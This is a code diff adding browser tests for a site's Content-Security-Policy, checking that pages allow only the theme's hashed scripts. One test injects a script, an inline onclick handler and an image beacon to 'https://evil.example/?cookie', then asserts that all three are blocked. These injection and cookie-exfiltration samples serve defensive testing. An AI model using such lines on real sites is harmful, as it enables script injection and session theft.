@@ -72,6 +72,60 @@ def test_every_page_is_sound(tab: Any, folder: Path) -> None:
     assert not wrong, "\n".join(wrong)
 
 
+def test_every_page_says_what_it_may_run(folder: Path) -> None:
+    """Scripts of the theme by their hash; nothing else that stands in a page."""
+    for path in folder.rglob("*.html"):
+        page = path.read_text("utf-8")
+        (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)
+        scripts = policy.partition("script-src ")[2].partition(";")[0].split()
+        assert scripts[:2] == ["'self'", "'wasm-unsafe-eval'"], path
+        assert len(scripts) == 2 + 3, path
+        assert all(one.startswith("'sha256-") for one in scripts[2:])
+        assert page.index("Content-Security-Policy") < page.index("<script"), path
+
+
+def test_a_script_that_got_into_a_page_does_not_run(tab: Any) -> None:
+    tab.goto("leaderboard/index.html")
+    tab.evaluate("""() => {
+        window.stopped = [];
+        const stop = (event) => window.stopped.push(event.effectiveDirective);
+        document.addEventListener("securitypolicyviolation", stop);
+        const script = document.createElement("script");
+        script.textContent = "window.owned = 1";
+        document.body.append(script);
+        const box = document.createElement("div");
+        box.innerHTML = '<button onclick="window.owned = 2">x</button>';
+        document.body.append(box);
+        box.firstChild.click();
+        const sent = document.createElement("img");
+        sent.src = "https://evil.example/?cookie";
+        document.body.append(sent);
+    }""")
+    tab.wait_for_function("window.stopped.length >= 3")
+    stopped = tab.evaluate("window.stopped")
+    assert sorted(stopped) == ["img-src", "script-src-attr", "script-src-elem"]
+    assert tab.evaluate("window.owned") is None
+    tab.heard.wrong()  # forgets what was tried here
+
+
+def test_scripts_of_the_theme_alone_are_hashed(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.syspath_prepend(browser.ROOT / "scripts" / "website")
+    import policy
+
+    theme = (
+        'x <script>__md_scope=new URL("{{ base_url }}",location),a=1</script> <script>b</script>'
+    )
+    theme = theme.replace('__md_scope=new URL("{{ base_url }}",location)', "")
+    page = (
+        '<html><head class="x"><script>__md_scope=new URL("../..",location),a=1</script></head>'
+        '<script>b</script><script>evil</script><script type="application/json">{}</script>'
+        '<script>__md_scope=new URL("..",location),evil</script><script src="a.js"></script>'
+    )
+    made = policy.with_policy(page, theme)
+    assert made.count("'sha256-") == 2
+    assert made.startswith('<html><head class="x"><meta http-equiv="Content-Security-Policy"')
+
+
 def test_the_first_page_is_small(tab: Any) -> None:
     tab.goto("index.html", wait_until="networkidle")
     sizes = tab.heard.sizes()
